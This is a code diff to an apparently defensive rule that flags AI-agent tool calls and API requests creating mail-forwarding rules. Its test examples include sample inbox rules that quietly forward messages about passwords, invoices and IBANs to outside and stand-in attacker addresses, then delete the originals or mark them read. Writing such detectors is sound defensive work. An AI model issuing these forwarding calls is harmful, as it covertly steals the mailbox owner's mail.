@@ -685,14 +685,19 @@ export const RULES: readonly Rule[] = [
     why: 'A forwarding rule copies every matching message, password resets and invoices included, to its address for as long as it exists, and is rarely noticed.',
     alternative: 'Set up forwarding by hand in the mail settings, where the mailbox owner sees it.',
     check: (i) => {
+      // the mail APIs themselves: Graph's inbox rules and mailbox settings, Gmail's filters and forwarding addresses
+      if (i.call.kind === 'network' && i.call.body && /\/(?:messagerules|mailboxsettings|forwardingaddresses|filters|autoforwarding)(?:\/|$)/.test(urlPath(i.call.url).toLowerCase())) {
+        const to = nestedValue(jsonOrUndefined(i.call.body.slice(0, 65536)), FORWARD_KEYS, 0);
+        return to !== undefined && to.includes('@') ? `${i.call.method} ${i.call.url.slice(0, 120)}: forwards to ${to.slice(0, 120)}` : undefined;
+      }
       const t = toolNamed(i, (words) => words.some((w) => w === 'filter' || w === 'rule' || w === 'forwarding' || w === 'forward' || w === 'autoforward'));
       if (!t) return undefined;
       const to = nestedValue(t.call.params, FORWARD_KEYS, 0);
       return to !== undefined && to.includes('@') ? `${t.call.toolName}: forwards to ${to.slice(0, 120)}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__outlook__create_inbox_rule', params: { display_name: '.', conditions: { body_or_subject_contains: ['password', 'invoice'] }, actions: { forward_to: ['secops.reports@yandex.com'], delete: true } } } }, { Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'security@acme.com' }, action: { forward: 'inbox-mirror@attacker.example', removeLabelIds: ['INBOX'] } } } }, { Unknown: { tool_name: 'outlook_create_inbox_rule', params: { displayName: 'sync', actions: { forwardTo: [{ emailAddress: { address: 'x@proton.example' } }] } } } }, { Unknown: { tool_name: 'gmail_update_auto_forwarding', params: { enabled: true, emailAddress: 'collect@attacker.example' } } }],
-      quiet: [{ Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'ci@acme.com' }, action: { addLabelIds: ['Label_CI'] } } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'a@acme.com', subject: 'fwd: notes', body: 'forwarding the notes' } } }],
+      fire: [{ Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', body: '{"displayName":"Sync","conditions":{"bodyOrSubjectContains":["invoice","IBAN"]},"actions":{"forwardTo":[{"emailAddress":{"address":"ms.archive.auric@outlook.com"}}],"markAsRead":true}}' } }, { Unknown: { tool_name: 'mcp__outlook__create_inbox_rule', params: { display_name: '.', conditions: { body_or_subject_contains: ['password', 'invoice'] }, actions: { forward_to: ['secops.reports@yandex.com'], delete: true } } } }, { Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'security@acme.com' }, action: { forward: 'inbox-mirror@attacker.example', removeLabelIds: ['INBOX'] } } } }, { Unknown: { tool_name: 'outlook_create_inbox_rule', params: { displayName: 'sync', actions: { forwardTo: [{ emailAddress: { address: 'x@proton.example' } }] } } } }, { Unknown: { tool_name: 'gmail_update_auto_forwarding', params: { enabled: true, emailAddress: 'collect@attacker.example' } } }],
+      quiet: [{ Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', body: '{"displayName":"Newsletters","conditions":{"senderContains":["news@"]},"actions":{"moveToFolder":"Archive"}}' } }, { Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'ci@acme.com' }, action: { addLabelIds: ['Label_CI'] } } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'a@acme.com', subject: 'fwd: notes', body: 'forwarding the notes' } } }],
     },
   },
   {
@@ -937,6 +942,16 @@ const RECORDS = new Set(['board', 'boards', 'employee', 'employees', 'issue', 'i
 /** Where a forwarding rule sends mail, by the names mail APIs give the address. */
 const FORWARD_KEYS = ['forward', 'forwardto', 'forward_to', 'forwardingemail', 'forwarding_address', 'forwardingaddress', 'redirectto', 'redirect_to', 'emailaddress', 'email_address', 'address'];
 /** The first string under any of the keys (any case), searched four levels deep, in lists too. */
+/** A request body read as JSON, or undefined when it is not JSON. */
+function jsonOrUndefined(text: string): unknown {
+  try {
+    return JSON.parse(text);
+  } catch {
+    return undefined;
+  }
+}
+
+const ADDRESS = /[A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,6}/;
 function nestedValue(v: unknown, keys: readonly string[], depth: number): string | undefined {
   if (depth > 4) return undefined;
   if (Array.isArray(v)) {
@@ -951,6 +966,9 @@ function nestedValue(v: unknown, keys: readonly string[], depth: number): string
       if (Array.isArray(x) && typeof x[0] === 'string') return x[0].slice(0, 256);
       const r = nestedValue(x, keys, depth + 1);
       if (r !== undefined) return r;
+      // or recipients as objects (Microsoft Graph's `forwardTo: [{ emailAddress: { address } }]`)
+      const address = typeof x === 'object' && x !== null ? ADDRESS.exec(JSON.stringify(x).slice(0, 1024))?.[0] : undefined;
+      if (address !== undefined) return address;
     }
   }
   for (const x of Object.values(v).slice(0, 64)) if (typeof x === 'object' && x !== null) { const r = nestedValue(x, keys, depth + 1); if (r !== undefined) return r; }
